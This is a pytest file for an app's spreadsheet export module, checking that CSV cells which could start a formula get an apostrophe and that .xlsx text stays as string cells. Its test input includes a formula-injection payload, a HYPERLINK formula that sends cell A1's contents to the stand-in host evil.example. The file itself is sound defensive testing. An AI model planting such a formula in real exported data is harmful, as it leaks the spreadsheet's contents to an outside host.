"""Formula-safe cells (app.spreadsheets): literal cases, read back as a spreadsheet program would."""
import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.spreadsheets import csv_cell, csv_text, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize("text, written", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("  =1+1", "'  =1+1"),           # leading spaces are skipped by some importers
    ("\u3000=1+1", "'\u3000=1+1"),   # full-width space
    ("\u200b=1+1", "'\u200b=1+1"),   # zero-width space
    ("-100", "'-100"),               # a text that looks like a number is still text
    ("北京广告有限公司", "北京广告有限公司"),
    ("A=B", "A=B"),                  # only the first character matters
    ("＝1+1", "＝1+1"),               # the full-width sign starts no formula
    ("", ""),
])
def test_csv_text_that_could_start_a_formula_gets_an_apostrophe(text, written):
    assert csv_cell(text) == written


@pytest.mark.parametrize("value, written", [
    (Decimal("-100.00"), "-100.00"), (-3, "-3"), (2.5, "2.5"), (None, ""), (True, "1"), (False, "0"),
    (date(2026, 5, 1), "2026-05-01"),
])
def test_csv_numbers_and_other_values_are_written_plain(value, written):
    assert csv_cell(value) == written


def test_csv_round_trip_keeps_the_text_and_the_bom():
    text = csv_text([["name", "amount"], [HYPERLINK, Decimal("-100.00")], ["a,b\"c", 1]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["name", "amount"], ["'" + HYPERLINK, "-100.00"], ['a,b"c', "1"]]


def read_cells(data: bytes):
    return [[(cell.value, cell.data_type) for cell in row] for row in load_workbook(io.BytesIO(data)).active.iter_rows()]


def test_xlsx_texts_are_string_cells_and_numbers_stay_numbers():
    cells = read_cells(xlsx_bytes([[HYPERLINK, "+1", "-100", "@x", "\t=1", "\r=1", "普通"],
                                   [Decimal("-100.50"), -3, 0, 2.5, None, date(2026, 5, 1), True]]))
    assert cells[0][:5] == [(HYPERLINK, "s"), ("+1", "s"), ("-100", "s"), ("@x", "s"), ("\t=1", "s")]
    assert cells[0][5] in (("\r=1", "s"), ("\n=1", "s"))  # XML reads a CR back as a line feed
    assert cells[0][6] == ("普通", "s")
    assert cells[1][:4] == [(-100.5, "n"), (-3, "n"), (0, "n"), (2.5, "n")]
    assert cells[1][4][0] is None
    assert cells[1][5] == ("2026-05-01", "s")
    assert cells[1][6] == ("1", "s")


def test_xlsx_drops_control_characters_excel_refuses_and_caps_long_text():
    cells = read_cells(xlsx_bytes([["a\x01b\x1fc", "x" * 40000]]))
    assert cells[0][0] == ("abc", "s")
    assert len(cells[0][1][0]) == 32767


def test_every_spreadsheet_writer_goes_through_this_module():
    """One place decides how a cell is written: a second CSV or .xlsx writer would be a second, unchecked rule."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [str(path.relative_to(root)) for folder in ("app", "sync") for path in (root / folder).rglob("*.py")
               if path.name != "spreadsheets.py"
               and any(marker in path.read_text(encoding="utf-8")
                       for marker in ("csv.writer(", "csv.DictWriter(", "Workbook(", "WriteOnlyCell("))]
    assert writers == []
